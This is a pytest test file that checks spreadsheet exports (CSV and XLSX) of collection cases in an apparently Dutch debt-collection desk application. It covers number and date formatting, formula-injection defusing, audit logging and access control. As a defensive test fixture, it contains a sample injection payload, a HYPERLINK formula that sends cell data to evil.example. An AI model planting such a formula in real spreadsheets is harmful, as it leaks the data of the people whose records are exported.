"""Lists as files: the cases of the page, numbers as numbers, and nothing that a spreadsheet takes for a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from html import unescape

import pytest

from casefile.acts import acts
from casefile.people import DeskRole
from domain.parties import Debtor
from services.desk.spreadsheets import defused
from tests.api.desk.world import Browser, World, furnished
from tests.casefile.builders import CREDITOR
from tests.domain.builders import invoice

FORMULA = '=HYPERLINK("https://evil.example?"&A1,"klik")'


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    world = furnished(tmp_path_factory.mktemp("desk") / "f.sqlite3")
    with world.file.write() as transaction:
        transaction.parties.save_debtor(CREDITOR.id, Debtor(id="+31", name=FORMULA))
    world.open(invoice(number="-1+1", amount="12345.67").model_copy(update={"debtor": "+31"}), "case:devaart:kwaad")
    return world


@pytest.fixture
def browser(world: World) -> Browser:
    return world.browser(world.app(), DeskRole.WORK)


async def as_csv(browser: Browser, query: str = "") -> list[dict[str, str]]:
    answer = await browser.client.get(f"/desk/zaken.csv{query}")
    assert answer.status_code == 200 and answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith('attachment; filename="zaken-2026-04-10.csv"')
    assert answer.content.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))


def cells_of(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert set(book.namelist()) >= {"xl/worksheets/sheet1.xml"}
        return book.read("xl/worksheets/sheet1.xml").decode()


async def test_a_file_has_the_cases_of_the_page_with_amounts_and_days_as_such(browser: Browser) -> None:
    rows = await as_csv(browser, "?op=nr&debiteur=bakker")
    assert [(row["Factuur"], row["Open"], row["Valuta"], row["Vervaldag"]) for row in rows] == [
        ("F-1", "1000,00", "EUR", "2026-03-01"),
        ("F-2", "250,50", "EUR", "2026-01-05"),
    ]
    book = cells_of((await browser.client.get("/desk/zaken.xlsx?debiteur=slager")).content)
    # 99.99 is a number, and 30 April 2026 the day 46142 of Excel's calendar.
    assert "<v>99.99</v>" in book and "<v>46142</v>" in book


async def test_nothing_that_people_wrote_is_a_formula(browser: Browser) -> None:
    (row,) = await as_csv(browser, "?zoek=kwaad")
    assert (row["Debiteur"], row["Factuur"], row["Debiteurnummer"]) == (f"'{FORMULA}", "'-1+1", "'+31")
    book = cells_of((await browser.client.get("/desk/zaken.xlsx?zoek=kwaad")).content)
    assert "<f>" not in book and FORMULA in unescape(book)
    assert re.search(r't="inlineStr"[^>]*><is><t[^>]*>-1\+1<', book)


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d", "|", "%"])
def test_a_text_that_begins_like_a_formula_is_defused(sign: str) -> None:
    assert defused(f"{sign}1+1") == f"'{sign}1+1"


@pytest.mark.parametrize("text", ["", " ", "Bakker", "12", "a=b", "O'Neill", "漢字"])
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


async def test_who_took_how_many_stands_in_the_log_and_never_what_he_searched_for(
    world: World, browser: Browser
) -> None:
    await browser.client.get("/desk/zaken.csv?zoek=ochtend&dagen=90%2B")
    row = acts(world.file, name="export cases", most=1)[0]
    assert (row.actor, row.subject, row.outcome) == ("Mies Work", "1 rows", "done")
    assert row.detail == "csv dagen=90+ zoek"


async def test_who_only_reads_takes_no_file_along(world: World) -> None:
    reader = world.browser(world.app(), DeskRole.READ)
    assert (await reader.get("/desk/zaken.xlsx")).status_code == 403
    assert "zaken.xlsx" not in (await reader.get("/desk/zaken")).text
